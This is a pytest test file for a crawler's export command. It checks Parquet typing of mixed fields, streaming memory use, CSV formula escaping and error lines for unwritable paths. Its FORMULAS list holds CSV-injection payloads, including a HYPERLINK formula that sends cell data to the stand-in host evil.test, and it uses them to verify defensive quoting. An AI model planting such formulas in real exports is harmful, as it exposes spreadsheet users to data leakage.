"""`crawlq export` where it failed or misled: fields holding numbers and text (a scraped
price: 12.5 / "n/a") crashed Parquet exports; CSV cells that spreadsheets run as formulas;
every row read into memory first; an unwritable path ended in a traceback. Real SQLite
results stores; the CLI in a subprocess (tests/test_cli.py's harness)."""

from __future__ import annotations

import csv
import json
import tracemalloc
from collections.abc import Iterator
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from crawlq.results import Record, ResultsStore, export
from crawlq.results.store import ROWS_PAGE

from .test_cli import Cli, cli

__all__ = ["cli"]  # test_cli's fixture, used here too

APP = """
import os
import crawlq
from crawlq.pipeline import Pipeline

app = crawlq.App(os.environ["CRAWLQ_BACKEND"])
pipeline = Pipeline(app, data=os.environ["EXPORT_DATA"])
"""


@pytest.fixture
def store(tmp_path: Path) -> Iterator[ResultsStore]:
    with ResultsStore(tmp_path / "results.sqlite") as opened:
        yield opened


def product(key: str, **data: object) -> Record:
    return Record(type="product", key=key, data=data)  # type: ignore[arg-type]


# -- Parquet: mixed fields --------------------------------------------------------------------


def test_a_field_of_numbers_and_text_is_a_text_column_in_parquet(
    store: ResultsStore, tmp_path: Path
) -> None:
    store.replace("parse", "http://shop.test/1", [product("a", price=12.5, units=3, note=None)])
    store.replace("parse", "http://shop.test/2", [product("b", price="n/a", units=4, note=None)])
    store.replace("parse", "http://shop.test/3", [product("c", price=7, units="many")])

    assert export(store, "product", tmp_path / "p.parquet") == 3
    table = pq.read_table(tmp_path / "p.parquet")
    assert [str(f.type) for f in table.schema] == ["string", "string", "string", "string"]
    assert table.to_pylist() == [
        {"key": "a", "price": "12.5", "units": "3", "note": None},
        {"key": "b", "price": "n/a", "units": "4", "note": None},
        {"key": "c", "price": "7", "units": "many", "note": None},
    ]


def test_integers_then_decimals_past_the_first_batch_are_floats(
    store: ResultsStore, tmp_path: Path
) -> None:
    """The first 10,000 rows fixed the column's type: a decimal after them failed the cast."""
    records = [product(f"k{i:06d}", n=i, label="x") for i in range(10_050)]
    records.append(product("k999999", n=2.5, label="y"))
    store.replace("parse", "all", records)

    assert export(store, "product", tmp_path / "p.parquet") == 10_051
    table = pq.read_table(tmp_path / "p.parquet")
    assert str(table.schema.field("n").type) == "double"
    assert str(table.schema.field("label").type) == "string"
    rows = table.to_pylist()
    assert rows[0] == {"key": "k000000", "n": 0.0, "label": "x"}
    assert rows[-1] == {"key": "k999999", "n": 2.5, "label": "y"}


def test_parquet_of_one_kind_per_field_keeps_its_types(store: ResultsStore, tmp_path: Path) -> None:
    store.replace("parse", "r", [product("a", n=1, f=0.5, s="x", e=None), product("b", n=2)])
    export(store, "product", tmp_path / "p.parquet")
    table = pq.read_table(tmp_path / "p.parquet")
    kinds = {f.name: str(f.type) for f in table.schema}
    assert kinds == {"key": "string", "n": "int64", "f": "double", "s": "string", "e": "string"}
    assert table.to_pylist()[1] == {"key": "b", "n": 2, "f": None, "s": None, "e": None}


# -- CSV: formulas ----------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.test/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)"]
FORMULAS += ["\t=1", "\r=1"]


def test_csv_cells_that_would_run_as_formulas_are_quoted(
    store: ResultsStore, tmp_path: Path
) -> None:
    records = [product(f"k{i}", title=text, n=-5) for i, text in enumerate(FORMULAS)]
    records += [product("=key", title="plain = text", n=1.5)]
    store.replace("parse", "r", records)

    assert export(store, "product", tmp_path / "p.csv") == len(records)
    with (tmp_path / "p.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert [r["title"] for r in rows[1:]] == ["'" + text for text in FORMULAS]
    assert rows[0] == {"key": "'=key", "title": "plain = text", "n": "1.5"}
    assert {r["n"] for r in rows[1:]} == {"-5"}  # numbers are no formula

    assert export(store, "product", tmp_path / "raw.csv", escape_formulas=False) == len(records)
    with (tmp_path / "raw.csv").open(newline="") as file:
        assert [r["title"] for r in csv.DictReader(file)][1:] == FORMULAS


# -- streaming --------------------------------------------------------------------------------


def test_rows_are_read_a_page_at_a_time_in_key_order(store: ResultsStore) -> None:
    count = ROWS_PAGE * 2 + 7
    store.replace("parse", "one", [product(f"a{i:05d}", n=i) for i in range(0, count, 2)])
    store.replace("parse", "two", [product(f"a{i:05d}", n=i) for i in range(1, count, 2)])
    assert [r["n"] for r in store.rows("product")] == list(range(count))
    assert [r["n"] for r in store.rows("product", stage="parse", ref="two")] == list(
        range(1, count, 2)
    )
    exactly = [product(f"b{i:05d}") for i in range(ROWS_PAGE)]
    store.replace("other", "r", [Record(type="page", key=r.key) for r in exactly])
    assert len(list(store.rows("page"))) == ROWS_PAGE
    assert list(store.rows("nothing")) == []


@pytest.mark.parametrize("suffix", ["jsonl", "csv", "parquet"])
def test_an_export_takes_little_memory_however_many_records(
    store: ResultsStore, tmp_path: Path, suffix: str
) -> None:
    """Every row was read before the first was written: 14 MB for these 30,000 records."""
    for start in range(0, 30_000, 10_000):
        batch = range(start, start + 10_000)
        store.replace(
            "parse", f"r{start}", [product(f"k{i:08d}", title="x" * 100, n=i) for i in batch]
        )
    tracemalloc.start()
    try:
        assert export(store, "product", tmp_path / f"out.{suffix}") == 30_000
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    # the Parquet writer holds its batch of 10,000 rows
    assert peak < (16 if suffix == "parquet" else 4) * 2**20, f"{peak / 2**20:.1f} MiB"
    if suffix == "jsonl":
        lines = (tmp_path / "out.jsonl").read_text().splitlines()
        assert json.loads(lines[-1]) == {"key": "k00029999", "title": "x" * 100, "n": 29999}


# -- the command ------------------------------------------------------------------------------


@pytest.fixture
def exporting(cli: Cli) -> Cli:
    """An app with a pipeline whose results store holds two products."""
    (cli.cwd / "shop.py").write_text(APP)
    data = cli.home / "data"
    with ResultsStore(data / "results.sqlite") as results:
        results.replace("parse", "r", [product("a", price=12.5), product("b", price="n/a")])
    return cli


def run_export(cli: Cli, *args: str) -> str:
    env = cli.env(EXPORT_DATA=str(cli.home / "data"))
    return cli.refused("export", "shop:app", "product", *args, env=env)


def test_an_unwritable_path_is_one_error_line(exporting: Cli) -> None:
    afile = exporting.home / "afile"
    afile.write_text("")
    for suffix in ("jsonl", "csv", "parquet"):
        target = afile / f"x.{suffix}"
        line = run_export(exporting, str(target))
        assert line == f"Error: cannot write {target}: {afile}: a file, not a folder", line
    deeper = afile / "sub" / "x.csv"
    line = run_export(exporting, str(deeper))
    assert line == f"Error: cannot write {deeper}: {afile / 'sub'}: Not a directory", line
    line = run_export(exporting, "/proc/x.parquet")  # pyarrow's own error
    assert line.startswith("Error: cannot write /proc/x.parquet: "), line
    assert "No such file or directory" in line, line


def test_the_help_says_what_export_does_to_csv_cells_and_mixed_fields(cli: Cli) -> None:
    help_text = " ".join(cli.ok("export", "--help").out.split())
    assert "In CSV, text starting with = + - @, a tab or a carriage return is written" in help_text
    assert "with a leading '" in help_text
    assert "In Parquet, a field holding both text and numbers is a text column" in help_text


def test_the_command_exports_a_field_of_numbers_and_text(exporting: Cli) -> None:
    """It ended in a pyarrow traceback (ArrowInvalid: could not convert 'n/a')."""
    env = exporting.env(EXPORT_DATA=str(exporting.home / "data"))
    out = exporting.home / "p.parquet"
    ran = exporting.ok("export", "shop:app", "product", str(out), env=env)
    assert ran.out.strip() == f"wrote 2 product records to {out}", ran
    assert pq.read_table(out).to_pylist() == [
        {"key": "a", "price": "12.5"},
        {"key": "b", "price": "n/a"},
    ]
